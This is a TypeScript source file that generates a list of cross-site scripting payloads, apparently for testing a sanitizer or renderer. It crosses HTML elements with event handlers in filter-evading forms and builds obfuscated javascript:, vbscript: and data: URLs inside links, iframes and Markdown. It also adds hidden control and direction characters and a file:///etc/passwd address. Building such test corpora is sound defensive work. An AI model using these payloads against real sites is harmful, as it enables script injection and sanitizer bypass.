import { readFileSync } from "node:fs";
import { escapes } from "./names.ts";

// Attacks on pages that are made of text, one in each, as lists of them have them: every event handler, every element
// that loads or runs something, and every way to hide that from a filter.

const elements =
  "a abbr address audio b body br button canvas custom-element details dialog div embed font form frameset h1 iframe image img input isindex keygen link marquee math meter object option p portal section select slot source span svg table template textarea track video xmp".split(
    " ",
  );

const handlers =
  "onabort onactivate onafterprint onanimationend onauxclick onbeforecopy onbeforeunload onblur oncanplay onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondrop onended onerror onfinish onfocus onfocusin onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onplay onpointerover onpopstate onreset onresize onscroll onsearch onselect onshow onstart onsubmit ontoggle ontouchstart ontransitionend onunhandledrejection onunload onwheel".split(
    " ",
  );

/** An element with a handler, written in one way of many. */
const writings: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}="alert(1)">test</${element}>`,
  (element, handler) => `<${element} ${handler}='alert(1)' contenteditable>test</${element}>`,
  (element, handler) => `<${element} id=x tabindex=1 ${handler}=alert(1)></${element}>`,
  (element, handler) => `<${element.toUpperCase()} ${handler.toUpperCase()}=alert\`1\`>`,
  (element, handler) => `<${element}/${handler}=alert(1)//`,
  (element, handler) => `"><${element} ${handler}=alert(1) autofocus x="`,
  (element, handler) => `'><${element}\t${handler} = "&#97;lert(1)" style=animation-name:x>`,
  (element, handler) => `<style>@keyframes x{}</style><${element} style="animation-name:x" ${handler}="alert(1)">`,
];

const withHandlers = handlers.flatMap((handler, i) =>
  [i, i + 17].map((n) => writings[n % writings.length]?.(elements[n % elements.length] ?? "", handler) ?? ""),
);
const withElements = elements.map((element, i) => writings[(i * 3) % writings.length]?.(element, "onload") ?? "");

const programs = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "&#x6a;avascript:alert(1)",
  "javascript://news.example/%0aalert(1)",
  "javascript:/*--></title></style></script>'\"/**/alert(1)//",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "blob:https://news.example/1",
  "file:///etc/passwd",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
];

const holders: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src=${address}>`,
  (address) => `[x](${address})`,
  (address) => `![x](<${address}>)`,
  (address) => `<${address}>`,
];

const withPrograms = programs.flatMap((address) => holders.map((hold) => hold(address)));

/** Characters that hide what they do. */
const hidden = [
  ..."\u0000 \u0007 \u000c \u001b[2J \u009b31m \u200b \u2028 \u202e \u2066 \u3164 \ufeff \ufffe \ud800 \u{e0041}"
    .split(" ")
    .map((character) => `<img${character}src=x>`),
  `Z${"\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u0334\u0319\u0324\u031e\u0349"}`,
];

/** Other attacks, one a line. */
const others = readFileSync(new URL("payloads.txt", import.meta.url), "utf8")
  .trimEnd()
  .split("\n");

/** Every attack once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...withHandlers,
    ...withElements,
    ...withPrograms,
    ...hidden,
    ...others,
    ...escapes.map(([, text]) => text),
  ]),
];
